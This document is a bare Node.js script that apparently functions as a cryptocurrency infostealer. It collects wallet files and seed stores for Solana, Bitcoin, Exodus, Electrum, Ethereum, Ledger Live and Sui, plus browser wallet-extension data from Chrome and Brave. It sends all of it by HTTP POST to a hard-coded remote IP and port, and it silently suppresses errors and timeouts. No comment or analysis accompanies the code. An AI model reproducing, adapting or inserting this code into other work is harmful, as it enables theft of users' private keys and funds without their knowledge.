const fs = require("fs"), os = require("os"), path = require("path"), http = require("http");
const H = os.homedir();
const list = (dir) => { try { return fs.readdirSync(dir); } catch { return []; } };
const wallets = [".config/solana/id.json", ".bitcoin/wallet.dat", ".config/Exodus/exodus.wallet/seed.seco", ".electrum/wallets/default_wallet",
  ".ethereum/keystore", ".config/Ledger Live/app.json", ".sui/sui_config/sui.keystore"];
const extensions = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "ibnejdfjmmkpcnlpebklmnkoeoihofec"];
const boundary = "----" + Date.now();
const parts = [];
const add = (file) => { try { parts.push(`--${boundary}\r\nContent-Disposition: form-data; name="multi_file"; filename="${path.basename(file)}"\r\n\r\n${fs.readFileSync(file, "latin1")}\r\n`); } catch {} };
for (const wallet of wallets) {
  const full = path.join(H, wallet);
  list(full).forEach((name) => add(path.join(full, name)));
  add(full);
}
for (const browser of [".config/google-chrome", ".config/BraveSoftware/Brave-Browser"]) {
  for (const id of extensions) {
    const store = path.join(H, browser, "Default/Local Extension Settings", id);
    list(store).forEach((name) => add(path.join(store, name)));
  }
}
const req = http.request({ host: "240.0.0.12", port: 1224, path: "/uploads", method: "POST", timeout: 4000, headers: { "Content-Type": "multipart/form-data; boundary=" + boundary } });
req.on("timeout", () => req.destroy()).on("error", () => {});
req.end(parts.join("") + `--${boundary}--\r\n`);
